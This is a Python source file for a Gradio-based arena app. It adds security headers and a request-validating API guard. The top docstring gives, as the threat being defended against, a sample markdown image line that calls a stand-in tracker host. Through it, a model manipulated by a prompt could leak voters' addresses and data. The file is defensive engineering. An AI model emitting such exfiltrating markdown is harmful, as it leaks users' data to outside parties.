"""The HTTP edge of the app: response headers, and a guard in front of Gradio's event API.

Headers: they keep what models write from reaching beyond the page.

Why: answers are rendered as markdown, so a model (or a prompt that talks it
into it) can write ``![](https://tracker.example/?q=…)``. Gradio's sanitizer
removes scripts and event handlers, but an image from another host would
still be fetched by every voter's browser, leaking their address and whatever
the URL carries. The Content-Security-Policy below allows images, media and
frames from this server only; the page's own scripts and styles are not
restricted (Gradio relies on inline ones).
"""

from __future__ import annotations

import json
from typing import Any, Awaitable, Callable
from urllib.parse import parse_qs

from arena.prompts import clean_text

CONTENT_SECURITY_POLICY = (
    "img-src 'self' data: blob:; media-src 'self' data: blob:; frame-src 'self'; object-src 'none'; base-uri 'self'"
)
HEADERS: tuple[tuple[bytes, bytes], ...] = (
    (b"content-security-policy", CONTENT_SECURITY_POLICY.encode()),
    (b"x-content-type-options", b"nosniff"),
    (b"referrer-policy", b"no-referrer"),
)

Scope = dict[str, Any]
Message = dict[str, Any]


class SecurityHeaders:
    """ASGI middleware adding :data:`HEADERS` to every HTTP response (passed to Gradio through ``app_kwargs``)."""

    def __init__(self, app: Callable[..., Awaitable[None]]) -> None:
        self.app = app

    async def __call__(self, scope: Scope, receive: Callable[[], Awaitable[Message]], send: Callable[[Message], Awaitable[None]]) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        async def send_with_headers(message: Message) -> None:
            if message["type"] == "http.response.start":
                present = {name.lower() for name, _ in message.get("headers", [])}
                message["headers"] = list(message.get("headers", [])) + [h for h in HEADERS if h[0] not in present]
            await send(message)

        await self.app(scope, receive, send_with_headers)


# --- the API guard ----------------------------------------------------------------------------------------------

MAX_BODY_BYTES = 1_000_000
_GUARDED_PREFIXES = ("/gradio_api/queue/join", "/gradio_api/run/", "/gradio_api/api/", "/gradio_api/call/")
_TEXT_COMPONENTS = {"Textbox", "Dropdown", "Markdown", "Radio"}


def clean_json(value: Any) -> Any:
    """Every string in a JSON value (keys too) through :func:`clean_text`."""
    if isinstance(value, str):
        return clean_text(value)
    if isinstance(value, list):
        return [clean_json(v) for v in value]
    if isinstance(value, dict):
        return {clean_text(k) if isinstance(k, str) else k: clean_json(v) for k, v in value.items()}
    return value


def _choice_values(block: Any) -> list[Any]:
    return [c[1] if isinstance(c, (tuple, list)) else c for c in (getattr(block, "choices", None) or [])]


def _input_problem(block: Any, value: Any) -> str | None:
    """Why *value* cannot be the value of the input component *block* (None when it can).

    Choices are checked where they are fixed (a dropdown without custom
    values, a checkbox group): Gradio would refuse them too, but with a
    traceback in the log. Dropdowns whose choices change at run time take
    custom values and leave the check to their handler.
    """
    kind = type(block).__name__
    if kind in _TEXT_COMPONENTS and value is not None and not isinstance(value, str):
        return "must be text"
    if kind == "Checkbox" and value is not None and not isinstance(value, bool):
        return "must be true or false"
    if kind == "CheckboxGroup" and value is not None:
        if not (isinstance(value, list) and all(isinstance(v, str) for v in value)):
            return "must be a list of texts"
        if any(v not in _choice_values(block) for v in value):
            return "names an unknown choice"
    if kind in ("Dropdown", "Radio") and value is not None and not getattr(block, "allow_custom_value", False):
        if value not in _choice_values(block):
            return "names an unknown choice"
    return None


class ApiGuard:
    """ASGI middleware in front of Gradio's event API: malformed calls get a 4xx with a reason, text is cleaned.

    Gradio trusts its own front end: an unknown ``fn_index`` raises ``KeyError``
    (a 500), a wrong number or type of values raises inside the event (a
    traceback in the log), and a lone surrogate in the data breaks the event
    stream mid-response. This checks each call against the app's own event
    table (*blocks*' functions and their input components) before Gradio sees
    it, and cleans every string (:func:`clean_json`).
    """

    def __init__(self, app: Callable[..., Awaitable[None]], blocks: Any) -> None:
        self.app, self.blocks = app, blocks

    async def __call__(self, scope: Scope, receive: Callable[[], Awaitable[Message]], send: Callable[[Message], Awaitable[None]]) -> None:
        path = scope.get("path", "")
        if scope["type"] == "http" and path == "/gradio_api/queue/data" and not self._known_session(scope):
            # Gradio would start the event stream and then fail inside it (a broken response and a traceback).
            await _reject(send, 404, "No events are waiting for this session: join an event first.")
            return
        if scope["type"] != "http" or scope.get("method") != "POST" or not path.startswith(_GUARDED_PREFIXES):
            await self.app(scope, receive, send)
            return
        body = b""
        while True:
            message = await receive()
            body += message.get("body", b"")
            if len(body) > MAX_BODY_BYTES:
                await _reject(send, 413, f"Request body larger than {MAX_BODY_BYTES:,} bytes.")
                return
            if not message.get("more_body"):
                break
        try:
            payload = json.loads(body or b"null")
        except ValueError:
            await _reject(send, 400, "The request body is not JSON.")
            return
        problem = self._problem(path, payload)
        if problem:
            await _reject(send, 422, problem)
            return
        cleaned = json.dumps(clean_json(payload)).encode()
        headers = [(k, v) for k, v in scope.get("headers", []) if k.lower() != b"content-length"]
        headers.append((b"content-length", str(len(cleaned)).encode()))
        sent = False

        async def replay() -> Message:
            nonlocal sent
            if sent:
                return await receive()  # after the body: disconnects and the like
            sent = True
            return {"type": "http.request", "body": cleaned, "more_body": False}

        await self.app({**scope, "headers": headers}, replay, send)

    def _known_session(self, scope: Scope) -> bool:
        session_hash = parse_qs(scope.get("query_string", b"").decode("latin-1")).get("session_hash", [""])[0]
        queue = getattr(self.blocks, "_queue", None)
        pending = getattr(queue, "pending_messages_per_session", None)
        return pending is None or session_hash in pending  # without Gradio's internals to ask, let Gradio decide

    def _problem(self, path: str, payload: Any) -> str | None:
        if not isinstance(payload, dict):
            return "The request body must be a JSON object."
        data = payload.get("data", [])
        if not isinstance(data, list):
            return "'data' must be a list of input values."
        if not path.startswith("/gradio_api/queue/join"):
            return None  # named routes: Gradio maps api names itself (and answers unknown ones with 404)
        fn_index = payload.get("fn_index")
        if not isinstance(fn_index, int) or isinstance(fn_index, bool) or fn_index not in self.blocks.fns:
            return f"Unknown event {fn_index!r}."
        session_hash = payload.get("session_hash")
        if session_hash is not None and not isinstance(session_hash, str):
            return "'session_hash' must be text."
        inputs = self.blocks.fns[fn_index].inputs
        if len(data) != len(inputs):
            return f"This event takes {len(inputs)} input values, not {len(data)}."
        for position, (block, value) in enumerate(zip(inputs, data), start=1):
            problem = _input_problem(block, value)
            if problem:
                return f"Input {position} of this event {problem}."
        return None


async def _reject(send: Callable[[Message], Awaitable[None]], status: int, detail: str) -> None:
    body = json.dumps({"detail": detail}).encode()
    await send({"type": "http.response.start", "status": status,
                "headers": [(b"content-type", b"application/json"), (b"content-length", str(len(body)).encode()), *HEADERS]})
    await send({"type": "http.response.body", "body": body})
